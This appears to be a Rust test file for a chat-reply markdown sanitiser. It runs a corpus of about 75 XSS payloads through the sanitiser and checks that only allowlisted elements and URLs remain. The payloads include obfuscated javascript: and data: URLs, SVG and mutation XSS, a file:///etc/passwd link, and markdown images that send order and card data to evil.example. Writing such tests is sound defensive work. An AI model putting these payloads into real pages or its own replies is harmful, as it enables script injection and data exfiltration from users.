//! The reply sanitiser against an XSS corpus (OWASP filter-evasion style, `javascript:` and
//! `data:` variants hidden with entities and whitespace, SVG, mutation XSS, exfiltration images).
//!
//! Every payload goes through both outputs. The HTML is parsed like a browser would (html5ever
//! via scraper) and every element, attribute and URL is checked against the allowlist. The
//! sanitised markdown is rendered by pulldown-cmark *with raw HTML passed through* (the most
//! permissive renderer a channel could use) and checked the same way.

mod common;

use common::unsafe_reason;
use switchboard_guard::markdown::{LINK_REL, render_html, sanitize_markdown};

const IMAGE_HOSTS: &[&str] = &["cdn.shop.example"];

const PAYLOADS: &[&str] = &[
    // Script and event handlers, OWASP cheat sheet style.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
    "<style>@import 'https://xss.example/x.css';</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    // Markdown links and images.
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click]( javascript:alert(1) )",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    "[a]\n\n[a]: <javascript:alert(1)> \"title\"",
    "[click](https://ok.example \"a\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://ok.example/\"onmouseover=\"alert(1))",
    "![x](javascript:alert(1))",
    "![x\"onerror=\"alert(1)](https://cdn.shop.example/a.png)",
    "![](https://evil.example/collect?q=order+1234+card+4111)",
    "![exfil](https://evil.example/?q=SECRET \"t\")",
    "![a][img]\n\n[img]: https://evil.example/p.png?h=history",
    "![x](//evil.example/p.png)",
    "![x](http://cdn.shop.example/ok.png)",
    "![x](https://user@cdn.shop.example@evil.example/p.png)",
    "[![x](https://evil.example/p.png)](https://ok.example)",
    "[![x](https://cdn.shop.example/p.png)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:1) |",
    "* <svg onload=alert(1)>\n* [y](data:text/html,x)",
    "**<a href=javascript:alert(1)>bold</a>**",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<",
    "x <!-- comment --> y",
];

#[track_caller]
fn assert_safe_html(html: &str, context: &str) {
    if let Some(reason) = unsafe_reason(html) {
        panic!("{context}: {reason} in {html:?}");
    }
}

#[test]
fn the_corpus_has_at_least_fifty_payloads() {
    assert!(PAYLOADS.len() >= 50, "{}", PAYLOADS.len());
}

#[test]
fn rendered_html_holds_only_allowlisted_elements_attributes_and_urls() {
    for payload in PAYLOADS {
        let html = render_html(payload, IMAGE_HOSTS);
        assert_safe_html(&html, &format!("render_html({payload:?})"));
    }
}

#[test]
fn sanitized_markdown_is_safe_even_under_a_renderer_that_passes_html_through() {
    for payload in PAYLOADS {
        let md = sanitize_markdown(payload, IMAGE_HOSTS);
        let mut html = String::new();
        let parser = pulldown_cmark::Parser::new_ext(
            &md,
            pulldown_cmark::Options::ENABLE_TABLES | pulldown_cmark::Options::ENABLE_STRIKETHROUGH,
        );
        pulldown_cmark::html::push_html(&mut html, parser);
        // pulldown-cmark writes links without rel; the check is about elements and URLs here.
        let html = html.replace("<a href", &format!("<a rel=\"{LINK_REL}\" href"));
        assert_safe_html(&html, &format!("sanitize_markdown({payload:?}) = {md:?}"));
        assert_eq!(sanitize_markdown(&md, IMAGE_HOSTS), md, "not idempotent on {payload:?}");
    }
}

#[test]
fn safe_content_survives() {
    let md = "# Returns\n\nSee [our policy](https://shop.example/returns) or mail <help@shop.example>.\n\n\
              ![logo](https://cdn.shop.example/logo.png)\n\n| a | b |\n|---|---|\n| 1 | **2** |\n\n`code`";
    let html = render_html(md, IMAGE_HOSTS);
    assert!(html.contains("<h1>Returns</h1>"), "{html}");
    assert!(
        html.contains(&format!("<a href=\"https://shop.example/returns\" rel=\"{LINK_REL}\">our policy</a>")),
        "{html}"
    );
    assert!(html.contains("href=\"mailto:help@shop.example\""), "{html}");
    assert!(html.contains("<img src=\"https://cdn.shop.example/logo.png\" alt=\"logo\">"), "{html}");
    assert!(html.contains("<td><strong>2</strong></td>"), "{html}");
    assert_eq!(sanitize_markdown(md, IMAGE_HOSTS), md);
}

#[test]
fn foreign_images_become_links_and_raw_html_becomes_text() {
    let html = render_html("![chart](https://evil.example/?q=secret)", IMAGE_HOSTS);
    assert_eq!(html, format!("<p><a href=\"https://evil.example/?q=secret\" rel=\"{LINK_REL}\">chart</a></p>\n"));
    let html = render_html("Hello <b onclick=x()>there</b>", IMAGE_HOSTS);
    assert_eq!(html, "<p>Hello &lt;b onclick=x()&gt;there&lt;/b&gt;</p>\n");
    assert_eq!(sanitize_markdown("[a](javascript:alert(1))", IMAGE_HOSTS), "a");
}
